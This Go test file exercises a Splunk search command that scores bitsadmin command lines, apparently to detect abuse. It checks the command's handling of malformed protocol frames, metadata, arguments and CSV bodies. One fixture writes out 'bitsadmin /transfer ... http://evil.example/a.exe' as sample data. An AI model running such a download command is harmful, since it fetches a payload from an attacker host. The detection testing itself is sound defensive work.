package command_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"bitsscore/src/internal/testevents"
	"bitsscore/src/scp"
	"bitsscore/src/splcsv"
	"bitsscore/src/splunkd"
)

// hangLimit is how long a malformed session may take to end. It catches a
// hang; it is not a performance bound (sessions end in milliseconds).
const hangLimit = 10 * time.Second

// frame is a message as splunkd would frame it, holding anything.
func frame(metadata, body string) []byte {
	return fmt.Appendf(nil, "chunked 1.0,%d,%d\n%s%s", len(metadata), len(body), metadata, body)
}

const executeMeta = `{"action":"execute","finished":false}`

// execute frames an execute request with a CSV body.
func execute(body string) []byte { return frame(executeMeta, body) }

// A malformedCase drives a session to a point where the command must give
// up, and names what its error must mention.
type malformedCase struct {
	name string
	// getinfo sends a valid getinfo and checks its reply first.
	getinfo bool
	// badArgs, when set, are the arguments of a getinfo the command must
	// refuse: the error answers the getinfo.
	badArgs []string
	// send is written raw after the getinfo, if any.
	send []byte
	// closeInput closes the command's stdin after send, as a splunkd that
	// dies mid-message does; otherwise stdin stays open, and the command
	// must not wait for more.
	closeInput bool
	// request is the request the error answers: 0 for the first.
	request int
	want    string
}

var goodRow = "Image,CommandLine,\"_chunked_idx\"\nC:\\x\\bitsadmin.exe,\"bitsadmin /reset\",0\n"

// largeBody is a chunk of about 2.7 MB, large enough to be scored as it
// arrives through a pipe.
var largeBody = string(testevents.Body(12000, 21))

// largeBodyWithLine is largeBody with its record n (from 0) replaced.
func largeBodyWithLine(n int, line string) string {
	lines := strings.SplitAfter(largeBody, "\n")
	lines[n+1] = line
	return strings.Join(lines, "")
}

var malformedCases = []malformedCase{
	// Framing.
	{name: "garbage instead of a header", send: []byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"), want: "expected a header"},
	{name: "garbage without a newline, input left open", send: []byte("hello"), want: "expected a header"},
	{name: "garbage after getinfo", getinfo: true, send: []byte("\x00\x01\x02\x03"), request: 1, want: "expected a header"},
	{name: "negative metadata length", send: []byte("chunked 1.0,-5,0\n"), want: "a length is negative"},
	{name: "negative body length", getinfo: true, send: []byte("chunked 1.0,37,-1\n"), request: 1, want: "a length is negative"},
	{name: "absurd body length", getinfo: true, send: []byte("chunked 1.0,37,999999999999999\n" + executeMeta), request: 1, want: "body length 999999999999999 is over the limit of 1073741824 bytes"},
	{name: "absurd metadata length", send: []byte("chunked 1.0,999999999999,0\n{"), want: "metadata length 999999999999 is over the limit"},
	{name: "length with too many digits", send: []byte("chunked 1.0,2,99999999999999999999999\n{}"), want: "more than 18 digits"},
	{name: "header line too long", send: []byte("chunked 1.0," + strings.Repeat(" ", 300)), want: "without a newline"},
	{name: "unknown protocol version", send: []byte("chunked 2.0,2,0\n{}"), want: "expected a header"},
	{name: "input ends inside a header", getinfo: true, send: []byte("chunked 1.0,3"), closeInput: true, request: 1, want: "input ends inside a header"},
	{name: "metadata cut short", send: []byte("chunked 1.0,40,0\n{\"action\":\"get"), closeInput: true, want: "metadata cut short (declared 40 bytes), 14 arrived"},
	{name: "body cut short (stdin closed mid-chunk)", getinfo: true, send: []byte(fmt.Sprintf("chunked 1.0,%d,%d\n%s%s", len(executeMeta), len(goodRow)+500, executeMeta, goodRow)), closeInput: true, request: 1, want: fmt.Sprintf("body cut short (declared %d bytes), %d arrived", len(goodRow)+500, len(goodRow))},

	// Metadata.
	{name: "empty metadata", send: frame("", ""), want: "metadata is not a JSON object"},
	{name: "invalid JSON", send: frame(`{"action":"getinfo",}`, ""), want: "metadata is not valid JSON"},
	{name: "metadata is an array", send: frame(`["getinfo"]`, ""), want: "metadata is not a JSON object"},
	{name: "metadata is a string", getinfo: true, send: frame(`"execute"`, goodRow), request: 1, want: "metadata is not a JSON object"},
	{name: "JSON with trailing garbage", send: frame(`{"action":"getinfo"} x`, ""), want: "metadata is not valid JSON"},
	{name: "finished is not a boolean", getinfo: true, send: frame(`{"action":"execute","finished":"yes"}`, goodRow), request: 1, want: "metadata is not valid JSON"},
	{name: "searchinfo args is not a list", send: frame(`{"action":"getinfo","searchinfo":{"args":"mode=spl"}}`, ""), want: "metadata is not valid JSON"},
	{name: "no action", send: frame(`{"finished":true}`, ""), want: `metadata has no "action"`},
	{name: "unknown action", send: frame(`{"action":"frobnicate"}`, ""), want: `unknown action "frobnicate"`},
	{name: "unknown action after getinfo", getinfo: true, send: frame(`{"action":"finish"}`, ""), request: 1, want: `unknown action "finish"`},

	// Session order.
	{name: "execute before getinfo", send: execute(goodRow), want: "splunkd must send getinfo first"},
	{name: "getinfo carrying a body", send: frame(`{"action":"getinfo","searchinfo":{"args":[]}}`, goodRow), want: fmt.Sprintf("the getinfo request carries a %d-byte body", len(goodRow))},
	{name: "a second getinfo", getinfo: true, send: frame(`{"action":"getinfo"}`, ""), request: 1, want: `chunk 1 is a second "getinfo" request`},

	// Arguments.
	{name: "unknown argument", badArgs: []string{"frobnicate=1"}, want: `unknown argument "frobnicate"`},
	{name: "argument without a value", badArgs: []string{"mode"}, want: `argument "mode" is not of the form name=value`},
	{name: "bad mode", badArgs: []string{"mode=fast"}, want: `mode="fast" is not a mode`},
	{name: "bad boolean", badArgs: []string{"debug=maybe"}, want: `debug="maybe" is not a boolean`},
	{name: "argument twice", badArgs: []string{"debug=t", "debug=f"}, want: `argument "debug" is given twice`},

	// CSV bodies.
	{name: "ragged row, too few fields", getinfo: true, send: execute("Image,CommandLine,\"_chunked_idx\"\nx,0\n"), request: 1, want: "chunk 1: csv body, line 2: record has 2 fields, the header has 3"},
	{name: "ragged row, too many fields", getinfo: true, send: execute("Image,\"_chunked_idx\"\nx,0\ny,1,extra\n"), request: 1, want: "line 3: record has 3 fields, the header has 2"},
	{name: "unterminated quote", getinfo: true, send: execute("Image,CommandLine\nx,\"bitsadmin /transfer\n"), request: 1, want: "line 2: quoted field is never closed"},
	{name: "junk after a closing quote", getinfo: true, send: execute("Image\n\"x\"y\n"), request: 1, want: `unexpected 'y' after a closing quote`},
	{name: "duplicate column names", getinfo: true, send: execute("Image,CommandLine,Image\na,b,c\n"), request: 1, want: `header names column "Image" twice`},
	{name: "empty column name", getinfo: true, send: execute("Image,,x\na,b,c\n"), request: 1, want: "header has an empty column name"},
	{name: "malformed __mv_ value", getinfo: true, send: execute("Image,\"__mv_Image\"\nx,\"$a$;b\"\n"), request: 1, want: "field Image: malformed multivalue cell"},
	{name: "unclosed __mv_ value", getinfo: true, send: execute("CommandLine,\"__mv_CommandLine\"\nx,\"$a$;$b\"\n"), request: 1, want: "field CommandLine: malformed multivalue cell: value starting at byte 4 is never closed"},
	// Large chunks, scored as they arrive (arrival.go): the error is the
	// one the whole chunk gives, and a chunk cut short stops the scoring.
	{name: "large body cut short while it is scored", getinfo: true, send: []byte(fmt.Sprintf("chunked 1.0,%d,%d\n%s%s", len(executeMeta), len(largeBody)+500, executeMeta, largeBody)), closeInput: true, request: 1, want: fmt.Sprintf("body cut short (declared %d bytes), %d arrived", len(largeBody)+500, len(largeBody))},
	{name: "short record deep in a large chunk", getinfo: true, send: execute(largeBodyWithLine(9000, "a,b\n")), request: 1, want: "chunk 1: csv body, line 9002: record has 2 fields, the header has 6"},
	{name: "text after a closing quote deep in a large chunk", getinfo: true, send: execute(largeBodyWithLine(7000, "\"x\"y,z,1,,,\n")), request: 1, want: "chunk 1: csv body, line 7002: unexpected 'y' after a closing quote"},
	{name: "bad chunk after good ones", getinfo: true, send: append(append(execute(goodRow), execute(goodRow)...), execute("Image,\"_chunked_idx\"\nx\"\n")...), request: 3, want: "chunk 3: csv body, line 2: record has 1 fields"},
}

// Every malformed session ends quickly, non-zero, with a well-formed error
// reply that names the problem in exactly one ERROR message, and with
// nothing on stderr.
func TestMalformedInput(t *testing.T) {
	for _, tt := range malformedCases {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			start := time.Now()
			s, err := splunkd.Start(bitsscoreBin)
			if err != nil {
				t.Fatal(err)
			}
			s.Timeout = hangLimit
			defer s.Wait()
			if tt.badArgs != nil {
				meta, err := json.Marshal(scp.Request{Action: scp.ActionGetInfo, SearchInfo: ptr(searchInfo(t, tt.badArgs...))})
				if err != nil {
					t.Fatal(err)
				}
				if err := s.Send(meta, nil); err != nil {
					t.Fatal(err)
				}
			}
			if tt.getinfo {
				if _, err := s.GetInfo(searchInfo(t)); err != nil {
					t.Fatalf("getinfo: %v", err)
				}
			}
			if len(tt.send) > 0 {
				// A pipe write may fail once the command has given up and
				// exited; what it answered is what counts.
				_ = s.SendRaw(tt.send)
			}
			if tt.closeInput {
				s.CloseInput()
			}
			// Replies to the good requests before the bad one.
			for n := 1; n < tt.request; n++ {
				if msg, err := s.ReadReply(); err != nil || bytes.Contains(msg.Metadata, []byte(`"error"`)) {
					t.Fatalf("reply %d: %s, %v", n, msg.Metadata, err)
				}
			}
			ce, err := s.ReadErrorReply(tt.request)
			if err != nil {
				t.Fatalf("want an error reply: %v", err)
			}
			checkErrorReply(t, ce, tt.want)
			exit, err := s.Wait()
			elapsed := time.Since(start)
			if err != nil {
				t.Errorf("after the error reply: %v", err)
			}
			if exit.Code == 0 || exit.Code == -1 {
				t.Errorf("exit status %d, want a non-zero exit of its own", exit.Code)
			}
			if len(exit.Stderr) > 0 {
				t.Errorf("stderr: %q, want nothing", exit.Stderr)
			}
			if elapsed > hangLimit {
				t.Errorf("the session took %v to end", elapsed)
			}
		})
	}
}

func ptr[T any](v T) *T { return &v }

// checkErrorReply holds an error reply to what the user needs: one ERROR
// message in the search UI, saying the same as the error, naming the problem.
func checkErrorReply(t *testing.T, ce *splunkd.CommandError, want string) {
	t.Helper()
	if !strings.Contains(ce.Text, want) {
		t.Errorf("error %q does not mention %q", ce.Text, want)
	}
	if !strings.HasPrefix(ce.Text, "bitsscore: ") {
		t.Errorf("error %q does not say which command failed", ce.Text)
	}
	if len(ce.Messages) != 1 || ce.Messages[0].Level != scp.LevelError || ce.Messages[0].Text != ce.Text {
		t.Errorf("inspector messages %q, want exactly one ERROR with the error's text", ce.Messages)
	}
}

// A splunkd that stops reading (the search was cancelled, or splunkd died)
// makes the command's next write fail: it must exit promptly, non-zero,
// without a panic or anything else on stderr.
func TestOutputClosedByReader(t *testing.T) {
	s, start := startAfterGetInfo(t)
	if err := s.CloseOutput(); err != nil {
		t.Fatal(err)
	}
	// The chunk may or may not be taken before the command exits.
	_ = s.SendRaw(execute(goodRow))
	checkQuietFailure(t, s, start)
}

// splunkd going away in the middle of a search that writes ahead (chunks
// being read, scored and written at once) stops every stage: the command
// exits promptly, non-zero, with nothing on stderr, whichever stage the
// failed write finds busy.
func TestOutputClosedMidStream(t *testing.T) {
	body := testevents.Body(20000, 3) // over 1 MiB: scored in parallel runs
	var stream []byte
	for range 8 {
		stream = append(stream, execute(string(body))...)
	}
	s, start := startAfterGetInfo(t)
	go s.SendRaw(stream) // fails once the command is gone: what it answered is what counts
	if msg, err := s.ReadReply(); err != nil || bytes.Contains(msg.Metadata, []byte(`"error"`)) {
		t.Fatalf("first reply: %s, %v", msg.Metadata, err)
	}
	if err := s.CloseOutput(); err != nil {
		t.Fatal(err)
	}
	checkQuietFailure(t, s, start)
}

// startAfterGetInfo starts the command, with hangLimit as the session's
// timeout, and completes the getinfo exchange; start is when it began.
func startAfterGetInfo(t *testing.T) (s *splunkd.Session, start time.Time) {
	t.Helper()
	start = time.Now()
	s, err := splunkd.Start(bitsscoreBin)
	if err != nil {
		t.Fatal(err)
	}
	s.Timeout = hangLimit
	if _, err := s.GetInfo(searchInfo(t)); err != nil {
		t.Fatal(err)
	}
	return s, start
}

// checkQuietFailure waits for a session whose output splunkd closed: the
// command must exit within hangLimit of start, non-zero, without a panic
// or anything else on stderr.
func checkQuietFailure(t *testing.T, s *splunkd.Session, start time.Time) {
	t.Helper()
	exit, _ := s.Wait()
	if exit.Code == 0 || exit.Code == -1 {
		t.Errorf("exit status %d, want a non-zero exit of its own", exit.Code)
	}
	if len(exit.Stderr) > 0 {
		t.Errorf("stderr: %q, want nothing", exit.Stderr)
	}
	if elapsed := time.Since(start); elapsed > hangLimit {
		t.Errorf("took %v to exit", elapsed)
	}
}

// Odd but valid input is handed back byte for byte: every cell of a column
// the command does not own comes back as the exact bytes sent, whatever
// they hold, across thousands of columns and multi-megabyte fields.
func TestOddInputPassesThroughByteForByte(t *testing.T) {
	odd := []string{
		"\xff\xfe\xfd invalid utf-8", "nul\x00inside", "lone\rcr", "\r", "crlf\r\ninside", "line\nfeed",
		`"quoted" "twice"`, "a,b,c", "$$;$", "  padded  ", "\t", "ünïcödé ✓ 𝄞", "",
	}
	long := strings.Repeat("long field\x00\xff\r", 300000) // 4.5 MB
	const extraColumns = 3000
	header := []string{"Image", "CommandLine", "_chunked_idx", "long", "na\xffme", "with space", "com,ma", `q"uote`, "__mv_other"}
	for c := 0; c < extraColumns; c++ {
		header = append(header, fmt.Sprintf("f%04d", c))
	}
	w := splcsv.NewWriter()
	for _, h := range header {
		w.WriteString(h)
	}
	w.EndRecord()
	rows := 2 * len(odd)
	for r := 0; r < rows; r++ {
		for c, name := range header {
			v := odd[(r+c)%len(odd)]
			switch name {
			case "Image":
				v = `C:\Windows\System32\bitsadmin.exe`
			case "CommandLine":
				v = "bitsadmin /transfer j http://evil.example/a.exe " + v
			case "_chunked_idx":
				v = fmt.Sprint(r)
			case "long":
				if r%len(odd) == 0 {
					v = long
				}
			case "__mv_other":
				v = "$not$;$decoded" // not an input's companion: never decoded
			}
			if r >= len(odd) {
				// The second half in splunkd's style: every cell quoted.
				w.WriteRaw([]byte(`"` + strings.ReplaceAll(v, `"`, `""`) + `"`))
			} else {
				w.WriteString(v)
			}
		}
		w.EndRecord()
	}
	body := bytes.Clone(w.Bytes())
	res := runSession(t, []splunkd.Chunk{{Body: body, Finished: true}}, splunkd.Options{Timeout: time.Minute})
	in := rawCells(t, body)
	out := rawCells(t, res.Replies[0].Body)
	if len(out.rows) != len(in.rows) {
		t.Fatalf("%d records sent, %d came back", len(in.rows), len(out.rows))
	}
	for c, name := range in.header {
		if out.header[c] != name {
			t.Fatalf("column %d is %q, came back as %q", c, name, out.header[c])
		}
	}
	owned := map[string]bool{"Image": true, "CommandLine": true}
	for r := range in.rows {
		for c, name := range in.header {
			if !owned[name] && !bytes.Equal(in.rows[r][c], out.rows[r][c]) {
				t.Errorf("record %d, column %q: sent %q, got back %q", r, name, clip(string(in.rows[r][c])), clip(string(out.rows[r][c])))
			}
		}
	}
}

type rawCellTable struct {
	header []string
	rows   [][][]byte
}

// rawCells reads a body as its cells' exact bytes, quotes included.
func rawCells(t *testing.T, body []byte) rawCellTable {
	t.Helper()
	r := splcsv.NewReader(body)
	if _, err := r.ReadHeader(); err != nil {
		t.Fatal(err)
	}
	tab := rawCellTable{header: append([]string(nil), r.Header()...)}
	for {
		fields, err := r.Next()
		if err != nil {
			t.Fatal(err)
		}
		if fields == nil {
			return tab
		}
		row := make([][]byte, len(fields))
		for i, f := range fields {
			row[i] = bytes.Clone(f.Raw)
		}
		tab.rows = append(tab.rows, row)
	}
}
